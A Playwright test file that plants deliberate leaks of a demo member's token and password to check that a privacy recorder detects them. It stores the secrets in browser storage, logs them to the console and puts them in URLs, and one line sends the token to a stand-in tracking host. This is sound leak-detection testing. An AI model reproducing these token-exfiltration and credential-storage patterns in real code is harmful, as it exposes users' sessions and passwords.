import type { Page } from '@playwright/test';
import { expect, test } from '../../../support/browser/fixtures';
import type { TestPlatform } from '../../../support/browser/test-platform';
import { findDemoMember } from '../../../support/members/demo-member';
import { expectNoPrivateData } from '../../../support/privacy/expect-no-private-data';
import { recordPrivateData } from '../../../support/privacy/private-data-recorder';

const { password } = findDemoMember('alice');
const TOKEN = 'planted-token-of-alice';

/** Opens an empty document of the merchant’s host, in which nothing but the test runs. */
async function openEmptyDocument(page: Page, platform: TestPlatform): Promise<void> {
  const address = `${platform.originOf('FAIR')}/m/planted`;
  await page.route(address, (route) => route.fulfill({ contentType: 'text/html', body: '<title>Planted</title>' }));
  await page.route('https://pixel.example/**', (route) => route.fulfill({ body: '' }));
  await page.goto(address);
  // The recorder learns the token from a request that has it where it belongs.
  await page.evaluate((token) => fetch('/wps/member/info', { headers: { Authorization: token } }), TOKEN);
}

test('[SESS-1][TRK-1] the recorder of the browser tests finds each planted leak of a token or password', async ({
  browser,
  platform,
}) => {
  const context = await browser.newContext();
  const findLeaks = await recordPrivateData(context, platform);
  const page = await context.newPage();
  await openEmptyDocument(page, platform);
  await page.evaluate(
    async ([token = '', secret = '']) => {
      await fetch(`https://pixel.example/?t=${token}`, { mode: 'no-cors' });
      await fetch(`/wps/member/info?t=${btoa(token)}`);
      console.info(`signed in with ${secret}`);
      history.replaceState(null, '', `?token=${token}`);
      localStorage.setItem('draft', JSON.stringify({ secret }));
      localStorage.named = secret;
      Object.defineProperty(localStorage, 'defined', { value: secret, configurable: true });
      localStorage.setItem('copy', token);
      sessionStorage.setItem('session', token);
      sessionStorage.setItem('draft', btoa(secret));
      const opening = indexedDB.open('planted', 1);
      opening.onupgradeneeded = () => {
        opening.result.createObjectStore('drafts');
        opening.result.createObjectStore('changed').put({}, 1);
      };
      await new Promise((resolve) => {
        opening.onsuccess = resolve;
      });
      const drafts = opening.result.transaction('drafts', 'readwrite').objectStore('drafts');
      drafts.put({ secret }, 1);
      const cursor = opening.result.transaction('changed', 'readwrite').objectStore('changed').openCursor();
      await new Promise((resolve) => {
        cursor.onsuccess = resolve;
      });
      cursor.result?.update({ secret });
    },
    [TOKEN, password],
  );
  expect(findLeaks().sort()).toEqual([
    'URL of /wps/member/info: token',
    'address of a page: token',
    'console: password',
    'foreign request https://pixel.example/: token',
    'localStorage/copy: token',
    'localStorage/defined: password',
    'localStorage/draft: password',
    'localStorage/named: password',
    'planted/changed: password',
    'planted/drafts: password',
    'sessionStorage/draft: password',
  ]);
  await context.close();
});

test('[SESS-1] a browser test fails when a token leaks', async ({ browser, platform }) => {
  const context = await browser.newContext();
  const use = async () => {
    const page = await context.newPage();
    await openEmptyDocument(page, platform);
    await page.evaluate((token) => console.info(token), TOKEN);
  };
  await expect(expectNoPrivateData(context, platform, use)).rejects.toThrow('console: token');
  await context.close();
});
